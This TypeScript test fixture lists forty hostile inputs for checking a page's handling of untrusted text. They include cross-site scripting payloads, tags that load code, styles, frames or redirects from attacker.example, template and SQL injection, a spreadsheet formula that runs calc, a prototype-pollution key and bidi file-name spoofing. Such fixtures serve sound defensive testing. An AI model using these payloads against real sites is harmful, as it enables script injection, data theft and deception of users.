// Forty texts that would run, load, cover or break something on a page that is careless with them.

/** Each asks for `alert` or for another origin, or is a text that layouts and parsers trip over. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(2)</script>',
  "'><script src=https://attacker.example/3.js></script>",
  '</title><script>alert(4)</script>',
  '</textarea><script>alert(5)</script>',
  '</script><script>alert(6)</script>',
  '<!--<script>--><script>alert(7)</script>',
  '<img src=x onerror=alert(8)>',
  '"><img src=https://attacker.example/9.png onerror=alert(9)>',
  '" onmouseover="alert(10)" autofocus onfocus="alert(10)" x="',
  "' onfocus='alert(11)' autofocus tabindex='1",
  '<svg onload=alert(12)>',
  '<svg><animate onbegin=alert(13) attributeName=x dur=1s>',
  '<svg><script>alert(14)</script></svg>',
  '<math><mi xlink:href="javascript:alert(15)">x</mi></math>',
  'javascript:alert(16)',
  ' \tjava\tscript:alert(17)',
  'data:text/html,<script>alert(18)</script>',
  'vbscript:msgbox(19)',
  '<a href="javascript:alert(20)">click</a>',
  '<iframe srcdoc="<script>parent.alert(21)</script>"></iframe>',
  '<iframe src="https://attacker.example/22"></iframe>',
  '<object data="https://attacker.example/23"></object>',
  '<link rel=stylesheet href=https://attacker.example/24.css>',
  '<style>@import "https://attacker.example/25.css"; *{display:none}</style>',
  '</style><style>body{background:url(https://attacker.example/26)}</style>',
  'x;background:url(https://attacker.example/27);position:fixed',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/28">',
  '<base href="https://attacker.example/29/">',
  '<form action="https://attacker.example/30"><button autofocus>go</button></form>',
  '{{constructor.constructor("alert(31)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what some templates run
  '${alert(32)} #{alert(32)} <%= alert(32) %> [[${alert(32)}]]',
  '<template><script>alert(33)</script></template><noscript><p title="</noscript><img src=x onerror=alert(33)>">',
  '__proto__',
  '\u202Egpj.exe \u2066left\u2069 \u200Fright\u202C\u061C',
  '%00\uFFFD\u2400\u2028\u2029\uFEFF&#0;\\0\\u0000',
  '👩‍👩‍👧‍👦🏳️‍🌈' + 'Z\u0351\u036B\u0343\u036A\u0302'.repeat(12) + '𝕏 ﷽ ꧅',
  'W'.repeat(10_000),
  "'; DROP TABLE invoices; -- \" OR 1=1 /* =cmd|'/C calc'!A0",
  '&lt;script&gt;alert(40)&lt;/script&gt; &amp;#x3C;img src=x onerror=alert(40)&amp;#x3E;',
]

/** A text as long as its field allows, whole characters. */
export function fitted(text: string, longest = 255): string {
  return [...text].slice(0, longest).join('').slice(0, longest).trim()
}
